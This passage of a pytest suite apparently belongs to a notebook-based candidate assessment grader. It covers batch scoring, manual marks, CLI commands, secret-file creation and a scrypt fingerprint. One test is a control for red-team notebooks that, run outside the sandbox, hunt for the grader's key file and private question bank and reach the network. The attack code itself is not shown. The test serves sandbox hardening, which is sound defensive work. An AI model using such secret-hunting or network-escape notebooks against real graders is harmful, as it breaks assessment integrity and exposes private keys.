    (subs / "c003.ipynb").write_bytes((world["solutions"]["c001"] / "exercise.ipynb")
                                      .read_bytes())           # c001's notebook as c003's
    (subs / "c004.ipynb").write_text("{not json")
    (subs / "bad id!.ipynb").write_text("{}")
    csv = tmp_path / "scores.csv"
    table = assess.grade_batch(subs, "junior_ops", world["key"], csv, bank=world["bank"],
                               use_sandbox=False, jobs=2).set_index("candidate")
    assert table.loc["c001", "score"] == 1.0 and table.loc["c002", "score"] == 1.0
    assert pd.isna(table.loc["c003", "score"]) and "not generated" in table.loc["c003", "problems"]
    assert pd.isna(table.loc["c004", "score"]) and "not a readable notebook" in \
        table.loc["c004", "problems"]
    assert "must be 1–64 letters" in table.loc["bad id!", "problems"]
    assert (tmp_path / "junior_ops_c001.html").exists()
    marks = pd.read_csv(tmp_path / "marks.csv")
    assert set(marks["question"]) == {"open1_dau_drop"} and marks["points"].isna().all()
    assert table["total"].isna().all() and (table["marks"] == "awaiting manual marks").all()
    marks.loc[marks["candidate"] == "c001", "points"] = 1.5
    marks.to_csv(tmp_path / "marks.csv", index=False)
    table = assess.grade_batch(subs, "junior_ops", world["key"], csv, bank=world["bank"],
                               use_sandbox=False, jobs=2).set_index("candidate")
    n = table.loc["c001", "max_points"]
    assert table.loc["c001", "manual"] == 1.5
    assert table.loc["c001", "total"] == pytest.approx((n + 1.5) / (n + 2))
    assert pd.isna(table.loc["c002", "total"])
    marks.loc[marks["candidate"] == "c002", "points"] = 3
    marks.to_csv(tmp_path / "marks.csv", index=False)
    with pytest.raises(ValueError, match="c002's open1_dau_drop mark 3.0 is not between 0 and 2"):
        assess.grade_batch(subs, "junior_ops", world["key"], csv, bank=world["bank"],
                           use_sandbox=False)


def test_cli_new_solution_and_unknown_exercise(world, tmp_path):
    key = str(world["key"])
    assert main(["assess", "new", "--exercise", "content_ops", "--candidate", "c9",
                 "--secret", key, "--out", str(tmp_path), "--lang", "en"]) == 0
    nb = nbformat.read(tmp_path / "content_ops_c9" / "exercise.ipynb", as_version=4)
    assert nb.cells[0].source.startswith("# Content operator")
    assert main(["assess", "solution", "--exercise", "content_ops", "--candidate", "c9",
                 "--secret", key, "--out", str(tmp_path), "--lang", "zh"]) == 0
    rubric = (tmp_path / "content_ops_c9_solution" / "RUBRIC.md").read_text()
    assert "满分标准" in rubric
    assert main(["assess", "new", "--exercise", "nope", "--candidate", "c9",
                 "--secret", key, "--out", str(tmp_path)]) == 2


def test_generator_accepts_the_candidate_scenarios():
    _, scenario, _ = assess.derive(SECRET, "growth_analyst", "c004")
    tables, _ = synth.generate(scenario, seed=1, n_users=1500)
    assert len(tables["users"]) > 1000


def test_new_secrets_are_random_private_and_never_overwritten(tmp_path, capsys):
    import stat

    assert main(["assess", "secret", "--out", str(tmp_path / "k1.txt")]) == 0
    assert main(["assess", "secret", "--out", str(tmp_path / "k2.txt")]) == 0
    k1, k2 = ((tmp_path / f"k{i}.txt").read_text().strip() for i in (1, 2))
    assert len(bytes.fromhex(k1)) == 32 and k1 != k2
    assert stat.S_IMODE((tmp_path / "k1.txt").stat().st_mode) == 0o600
    assert main(["assess", "secret", "--out", str(tmp_path / "k1.txt")]) == 2
    assert "never overwritten" in capsys.readouterr().err
    assert (tmp_path / "k1.txt").read_text().strip() == k1


def test_the_fingerprint_is_a_slow_kdf_not_an_hmac():
    import hmac

    _, _, fingerprint = assess.derive(SECRET, "junior_ops", "c001")
    slow = hashlib.scrypt(SECRET.encode(), salt=b"opslab-fingerprint:junior_ops:c001",
                          n=2 ** 14, r=8, p=1, dklen=16).hex()
    fast = hmac.new(SECRET.encode(), b"fingerprint:junior_ops:c001", hashlib.sha256)
    assert fingerprint == slow and fast.hexdigest()[:16] not in fingerprint


def test_a_bank_file_is_checked_when_loaded(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text("EXERCISES = 3\n")
    with pytest.raises(ValueError, match="must define EXERCISES"):
        bank.load(bad)
    with pytest.raises(FileNotFoundError, match="no question bank at"):
        bank.load(tmp_path / "missing.py")
    folder = tmp_path / "bank"
    folder.mkdir()
    (folder / "a.py").write_text(TEST_BANK)
    (folder / "b.py").write_text(TEST_BANK)
    with pytest.raises(ValueError, match="'junior_ops' is defined twice"):
        bank.load(folder)


def test_the_attacks_are_real_they_succeed_without_the_sandbox(world, tmp_path):
    """The control for the red-team batch: unsandboxed, the same notebooks find the key
    file and the private bank and reach the network, so "sealed" above is the
    sandbox's doing, not a broken attack."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    # the walks start at the folder holding the key and the bank: a walk of the whole
    # host reads every file on a build machine and outlasts the cell timeout
    fill = {"key": world["key"], "bank": world["bank"], "manager": tmp_path / "m.txt",
            "outside": tmp_path / "o.txt", "port": server.getsockname()[1], "marker": MARKER,
            "walk_root": world["root"]}
    for name in ("secret_hunt", "network", "scan"):
        path = tmp_path / f"{name}.ipynb"
        nbformat.write(_with_cell(_notebook(world), _fill(ATTACKS[name], fill)), path)
        r = assess.grade(path, "c001", world["key"], bank=world["bank"], use_sandbox=False,
                         limits=sandbox.Limits(cell_timeout=20, total_timeout=60))
        assert _points(r)["q_probe"] == 0.0, (name, r["questions"][-1]["given"], r["problems"])
        assert r["score"] < 1.0
    server.close()
